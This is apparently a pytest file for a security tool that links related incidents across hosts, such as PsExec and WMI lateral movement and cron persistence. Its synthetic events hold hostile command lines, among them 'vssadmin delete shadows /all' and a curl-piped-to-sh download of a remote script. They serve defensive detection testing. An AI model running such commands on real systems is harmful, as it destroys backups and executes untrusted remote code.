"""Related incidents in the database: both ends found, kept with their evidence, and read by incident."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import Connection

from engine.domain.records import ProcessEvent
from engine.errors import Cancelled
from engine.progress import CancelToken, Run, Step
from store.base import ids
from store.schema import witness
from store.scores import related, rows
from store.scores.related import RelatedView
from store.workspace import Workspace, open_workspace
from tests.postgres import in_a_file
from tests.store import samples

SECOND = 1_000_000
NOON = 1_770_000_000_000_000
SYS = "C:\\Windows\\System32\\"
HOSTILE = "cmd /c \x1b[31m\0 \udcff C:\\Windows\\Temp\\p.bat"
WMIC = SYS + "wbem\\WMIC.exe"
PROVIDER = SYS + "wbem\\WmiPrvSE.exe"


def event(host: str, at: float, number: int, image: str, command: str, parent: int | None = None, **more: object) -> ProcessEvent:
    time_us = NOON + round(at * SECOND)
    return samples.event(number, parent, host=host, image=image, command_line=command, time_us=time_us, **more)


def stages() -> list[ProcessEvent]:
    """A workstation that pushes a service to one server and asks others through WMI; a cron entry that comes back."""
    ws, fs, sql = "WS1.corp.example.com", "FS01.corp.example.com", "SQL1"
    return [
        event(ws, 0, 1, SYS + "cmd.exe", "cmd.exe"),
        event(ws, 5, 2, "C:\\Users\\Public\\ps64.exe", f"ps64 -accepteula \\\\fs01 -s -d {HOSTILE}", 1),
        event(ws, 50, 3, WMIC, f'wmic /node:@C:\\t.txt process call create "{HOSTILE}"', 1),
        event(fs, 1, 1, SYS + "services.exe", "services.exe"),
        event(fs, 20, 2, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", 1),
        event(fs, 21, 3, SYS + "cmd.exe", HOSTILE, 2),
        event(fs, 22, 4, SYS + "vssadmin.exe", "vssadmin delete shadows /all", 3),
        event(sql, 60, 2, SYS + "cmd.exe", HOSTILE, 1, parent_image=PROVIDER),
        event("ci01", 0, 1, "/usr/bin/curl", "curl http://198.51.100.9/kw", os="linux", user="root"),
        event("ci01", 3, 2, "/usr/bin/crontab", "crontab -", os="linux", user="root"),
        event("ci01", 3000, 3, "/usr/bin/dash", "sh -c 'curl http://198.51.100.9/kw.sh | sh'", 9, os="linux", user="root"),
    ]


@pytest.fixture
def scored(workspace: Workspace) -> tuple[Workspace, str, int]:
    """One incident for each host, but the entry that comes back is one of its own."""
    samples.fill(workspace, stages())
    model = samples.score(workspace)
    with workspace.write() as connection:
        case = connection.exec_driver_sql("SELECT id FROM cases").scalar_one()
        set_id = rows.set_of(connection, case, model)
        assert set_id is not None
        found = connection.exec_driver_sql("SELECT id, kind FROM process WHERE merged_into IS NULL ORDER BY id").all()
        names = _names(connection)
        for number, kind in found:
            host, own = ids.host_of(number), number - ids.base(ids.host_of(number))
            incident = 99 if names[host] == "ci01" and own == 3 else host
            if kind is not None:
                connection.exec_driver_sql(
                    "INSERT INTO covered (set_id, process_id, incident, odd) VALUES (?, ?, ?, 1)", (set_id, number, incident)
                )
        for incident in [*names, 99]:
            connection.exec_driver_sql(
                "INSERT INTO incident (set_id, finding, place, number, host_id, top, lead, score, processes, odd)"
                " VALUES (?, ?, 1, ?, 1, 1, 1, 1.0, 1, 1)",
                (set_id, incident, incident),
            )
        witness.keep(connection, witness.SCORES, set_id)
        connection.commit()
    return workspace, model, set_id


def _names(connection: Connection) -> dict[int, str]:
    return {int(number): str(name) for number, name in connection.exec_driver_sql("SELECT id, name FROM host")}


def views(workspace: Workspace, set_id: int) -> dict[tuple[str, str, str], RelatedView]:
    with workspace.read() as connection:
        names = _names(connection)
        numbers = connection.exec_driver_sql("SELECT number FROM incident").scalars().all()
        found = related.related_of(connection, set_id, numbers)
    return {(names[ids.host_of(v.from_process)], names[ids.host_of(v.to_process)], v.how): v for v in found}


def test_the_stages_of_one_intrusion_are_tied(scored: tuple[Workspace, str, int]) -> None:
    workspace, model, set_id = scored
    assert workspace.chains.relate("case", model) == 3
    found = views(workspace, set_id)
    assert found.keys() == {
        ("WS1.corp.example.com", "FS01.corp.example.com", "psexec"),
        ("WS1.corp.example.com", "SQL1", "wmi"),
        ("ci01", "ci01", "persistence"),
    }
    pushed = found["WS1.corp.example.com", "FS01.corp.example.com", "psexec"]
    assert pushed.evidence[0] == "its command line names fs01"
    assert pushed.evidence[1] == f"the command that it gives ran on FS01.corp.example.com: {HOSTILE}"
    assert (pushed.from_place, pushed.to_place) == (1, 1)
    assert pushed.from_finding != pushed.to_finding
    assert found["ci01", "ci01", "persistence"].to_finding == 99


def test_a_tie_is_read_from_either_end_and_by_no_other_incident(scored: tuple[Workspace, str, int]) -> None:
    workspace, model, set_id = scored
    workspace.chains.relate("case", model)
    pushed = views(workspace, set_id)["WS1.corp.example.com", "FS01.corp.example.com", "psexec"]
    with workspace.read() as connection:
        assert related.related_of(connection, set_id, [pushed.to_finding]) == (pushed,)
        assert pushed in related.related_of(connection, set_id, [pushed.from_finding])
        assert related.related_of(connection, set_id, [98]) == ()


def test_what_no_incident_covers_is_tied_to_nothing(scored: tuple[Workspace, str, int]) -> None:
    workspace, model, set_id = scored
    with workspace.write() as connection:
        connection.exec_driver_sql("DELETE FROM covered WHERE incident != 99")
        connection.commit()
    assert workspace.chains.relate("case", model) == 0
    assert views(workspace, set_id) == {}


def test_a_second_time_replaces_and_the_account_of_the_scores_agrees(scored: tuple[Workspace, str, int]) -> None:
    workspace, model, set_id = scored
    assert [workspace.chains.relate("case", model) for _ in range(2)] == [3, 3]
    with workspace.read() as connection:
        assert connection.exec_driver_sql("SELECT count(*) FROM related").scalar_one() == 3
        assert witness.large(connection, witness.SCORES, [set_id], lambda: None) == ([], [])


def test_rows_are_accounted_for_as_they_are_written_and_again_with_their_ties(workspace: Workspace) -> None:
    samples.fill(workspace, stages())
    model = samples.score(workspace, grouped=True)
    with workspace.read() as connection:
        assert witness.large(connection, witness.SCORES, [1], lambda: None) == ([], [])
    workspace.chains.relate("case", model)
    with workspace.read() as connection:
        assert connection.exec_driver_sql("SELECT count(*) FROM related").scalar_one() > 0
        assert connection.exec_driver_sql("SELECT count(*) FROM covered").scalar_one() > 0
        assert connection.exec_driver_sql("SELECT count(*) FROM variant").scalar_one() > 0
        assert witness.large(connection, witness.SCORES, [1], lambda: None) == ([], [])


def test_ties_do_not_approve_of_what_was_damaged_since_the_scores_were_written(workspace: Workspace) -> None:
    samples.fill(workspace, stages())
    model = samples.score(workspace, grouped=True)
    with workspace.write() as connection:
        connection.exec_driver_sql("UPDATE score SET worst_step = worst_step + 1 WHERE rank = 1")
        connection.commit()
    workspace.chains.relate("case", model)
    with workspace.read() as connection:
        assert witness.large(connection, witness.SCORES, [1], lambda: None) == ([1], [])


@in_a_file
def test_ties_of_scores_whose_threshold_moved_meanwhile_are_accounted_for(workspace: Workspace) -> None:
    samples.fill(workspace, stages())
    model = samples.score(workspace, grouped=True)
    open_workspace(workspace.folder).thresholds.move("case", 1000.0)
    workspace.chains.relate("case", model)
    with workspace.read() as connection:
        assert witness.large(connection, witness.SCORES, [1], lambda: None) == ([], [])


def test_scores_without_incidents_and_models_without_scores_have_no_ties(workspace: Workspace) -> None:
    samples.fill(workspace, stages())
    assert workspace.chains.relate("case", samples.score(workspace)) == 0
    assert workspace.chains.relate("case", samples.publish(workspace, '{"n": 2}')) == 0


def test_it_is_watched_and_stopped_between_two_hosts(scored: tuple[Workspace, str, int]) -> None:
    workspace, model, set_id = scored
    token, seen = CancelToken(), list[Step]()

    def stop(step: Step) -> None:
        seen.append(step)
        if len(seen) == 3:
            token.cancel()

    with pytest.raises(Cancelled):
        workspace.chains.relate("case", model, Run(stop, token))
    assert [(step.done, step.total, step.unit) for step in seen] == [(done // 2, 4, "hosts") for done in range(3)]
    assert views(workspace, set_id) == {}


def test_the_order_of_ingest_changes_no_tie(tmp_path: Path, scored: tuple[Workspace, str, int]) -> None:
    workspace, model, set_id = scored
    workspace.chains.relate("case", model)
    expected = {key: view.evidence for key, view in views(workspace, set_id).items()}
    with workspace.read() as connection:
        case = connection.exec_driver_sql("SELECT id FROM cases").scalar_one()
        backwards = related._Reader.of(connection, case, set_id)
        backwards.hosts.reverse()
        assert len(expected) == 3
        found = {link.evidence for link in related.found_by(backwards, Run())}
    assert found == set(expected.values())
